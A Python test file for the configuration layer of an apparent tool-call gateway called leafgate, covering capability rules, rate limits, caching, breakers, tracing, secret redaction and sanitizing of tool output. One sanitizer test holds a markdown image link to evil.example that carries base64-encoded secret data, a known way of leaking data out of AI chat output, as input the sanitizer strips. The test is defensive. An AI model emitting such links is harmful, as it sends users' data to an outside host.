"""Sections of a configuration become the values that the rooms work with; what could be misread is refused."""

from __future__ import annotations

from inspect import signature
from typing import Any

import pytest
from config_documents import make_config, valid_sections
from hypothesis import HealthCheck, given, settings

from leafgate.admission.policy import CachePolicy, Limit, RateLimits
from leafgate.admission.retry import BreakerPolicy
from leafgate.compose.policies import (
    make_cleaners,
    make_controls,
    make_embedder,
    make_policy,
    make_rate_limits,
)
from leafgate.model.errors import ConfigError
from leafgate.model.rights import CapabilityPolicy, Rule
from leafgate.state.routing import HttpEmbedder
from leafgate.telemetry.tracing import make_tracing

ENDPOINT = "http://127.0.0.1:4318/v1/traces"
CONTROLS = ("policy", "tolerant_args", "strict_output", "rate_limits", "cache", "retry", "breaker")


@settings(suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(valid_sections(*CONTROLS, "sanitize"))
def test_the_rooms_accept_every_control_that_a_file_may_hold(sections: dict[str, Any]) -> None:
    config = make_config(**sections)
    make_controls(config)
    make_cleaners(config)


def test_a_policy() -> None:
    rules = [{"effect": "allow", "namespace": "disk", "tags": ["read-only"]}, {"effect": "deny"}]
    policy = make_config(policy={"rules": rules}).policy
    assert policy is not None
    assert policy.rules is not None
    assert make_policy(policy.rules) == CapabilityPolicy((Rule("allow", "disk", None, ("read-only",)), Rule("deny")))


def test_limits() -> None:
    section = {"tool_execute": {"max_calls_per_minute": 60}, "tools": {"disk:*": {"max_calls_per_session": 5}}}
    limits = make_config(rate_limits=section).rate_limits
    assert limits is not None
    assert make_rate_limits(limits) == RateLimits({"tool_execute": Limit(60)}, {"disk:*": Limit(None, 5)})


def test_controls() -> None:
    controls = make_controls(make_config(cache={"read_only": True, "allow": ["a:b"], "ttl": 5}, tolerant_args=True))
    assert controls.cache_policy == CachePolicy(True, ("a:b",))
    assert controls.cache is not None
    assert controls.tolerant_args
    nothing = make_controls(make_config())
    assert (nothing.policy, nothing.quotas, nothing.cache) == (None, None, None)
    assert nothing.cache_policy == CachePolicy()


def test_a_breaker() -> None:
    breaker = make_config(breaker={"failures": 2, "open_seconds": 1.5}).breaker
    assert breaker is not None
    assert BreakerPolicy(breaker.failures, breaker.open_seconds) == BreakerPolicy(2, 1.5)


def test_tracing() -> None:
    section = {"endpoint": "https://traces.example", "headers": {"x": "y"}, "service_name": "edge", "sample_ratio": 0.1}
    tracing = make_config(tracing=section).tracing
    assert tracing is not None
    assert dict(tracing) == section
    assert [*section] == [*signature(make_tracing).parameters]
    assert "traces.example" not in repr(tracing)


def test_an_embedder() -> None:
    assert make_embedder(make_config().embedder) is None
    assert isinstance(make_embedder(make_config(embedder={"kind": "http", "url": "http://x"}).embedder), HttpEmbedder)


def test_a_server_may_have_rules_of_its_own() -> None:
    server = {"command": "x", "sanitize": {"escape_html": True}}
    clean, own = make_cleaners(make_config(mcpServers={"wiki": server}))
    assert clean("<b>bold</b>") == "<b>bold</b>"
    assert own["wiki"]("<b>bold</b>") == "&lt;b&gt;bold&lt;/b&gt;"


def test_further_secrets_and_values_that_are_not_secrets() -> None:
    patterns = [{"type": "acme-token", "start": "acme_", "regex": "acme_[a-z0-9]{12}"}]
    clean, _ = make_cleaners(make_config(redact={"patterns": patterns, "allow": ["AKIA*"]}))
    assert clean("use acme_abc123def456 now") == "use [redacted:acme-token] now"
    assert clean("the key AKIAIOSFODNN7EXAMPL3 of the manual") == "the key AKIAIOSFODNN7EXAMPL3 of the manual"


def test_links_by_policy() -> None:
    text = "![x](https://evil.example/p?d=c2VjcmV0LWRhdGEtZm9yLXlvdQ)"
    strict, _ = make_cleaners(make_config(sanitize={"links": "strip"}))
    lenient, _ = make_cleaners(make_config(sanitize={"links": "off"}))
    assert "c2VjcmV0" not in strict(text)
    assert lenient(text) == text


REFUSED: dict[str, list[Any]] = {
    "policy": [
        None,
        [],
        {},
        {"rules": {}},
        {"rules": [], "default": "allow"},
        {"rules": [{}]},
        {"rules": ["allow"]},
        {"rules": [{"effect": "permit"}]},
        {"rules": [{"effect": "allow", "namespaces": "disk"}]},
        {"rules": [{"effect": "allow", "tool": 5}]},
        {"rules": [{"effect": "allow", "tags": "read-only"}]},
        {"rules": [{"effect": "allow", "tags": [5]}]},
    ],
    "rate_limits": [
        None,
        [],
        {"tool_exec": {}},
        {"tool_execute": 5},
        {"tool_execute": {"per_minute": 5}},
        {"tool_execute": {"max_calls_per_minute": "5"}},
        {"tool_execute": {"max_calls_per_minute": True}},
        {"tool_execute": {"max_calls_per_minute": -1}},
        {"tools": []},
        {"tools": {"x:*": {"max": 1}}},
    ],
    "retry": [
        None,
        {"attempts": 3},
        {"max_attempts": 0},
        {"max_attempts": 1000},
        {"max_attempts": "3"},
        {"max_attempts": True},
        {"base_delay": -1},
        {"max_delay": "1s"},
        {"jitter": 2},
        {"retryable_codes": "UPSTREAM_TIMEOUT"},
        {"retryable_codes": ["ARGS_INVALID"]},
        {"retryable_codes": [["x"]]},
    ],
    "breaker": [None, {"after": 1}, {"failures": 0}, {"failures": True}, {"open_seconds": 0}],
    "cache": [None, {"readonly": True}, {"read_only": "yes"}, {"allow": "disk:*"}, {"allow": [5]}],
    "tracing": [
        None,
        True,
        [],
        {},
        {"endpoint": ""},
        {"endpoint": 4318},
        {"endpoint": "127.0.0.1:4318"},
        {"endpoint": "ftp://127.0.0.1"},
        {"endpoint": "http://"},
        {"endpoint": ENDPOINT, "headers": ["x"]},
        {"endpoint": ENDPOINT, "service_name": ""},
        {"endpoint": ENDPOINT, "service_name": 5},
        {"endpoint": ENDPOINT, "sample_ratio": 1.1},
        {"endpoint": ENDPOINT, "sample_ratio": -0.1},
        {"endpoint": ENDPOINT, "sample_ratio": True},
        {"endpoint": ENDPOINT, "sample_ratio": float("nan")},
        {"endpoint": ENDPOINT, "ratio": 1},
    ],
    "embedder": [
        {},
        {"kind": "x"},
        {"kind": "http"},
        {"kind": "http", "url": "ftp://x"},
        {"kind": "http", "url": "http://x", "key": 1},
    ],
    "sanitize": ["x", {"escape_html": "yes"}, {"links": "maybe"}, {"trusted_hosts": [1]}, {"escape": True}],
    "redact": [
        [],
        {"allow": "AKIA"},
        {"allow": [5]},
        {"patterns": [{}]},
        {"patterns": [{"type": "Bad Name", "start": "ab", "regex": "ab"}]},
        {"patterns": [{"type": "x", "start": "a", "regex": "a"}]},
        {"patterns": [{"type": "x", "start": "ab", "regex": "("}]},
        {"pattern": []},
    ],
}


@pytest.mark.parametrize(("key", "section"), [(key, section) for key, each in REFUSED.items() for section in each])
def test_a_section_that_could_be_misread_is_refused_by_its_key(key: str, section: Any) -> None:
    with pytest.raises(ConfigError, match=key):
        make_config(**{key: section})
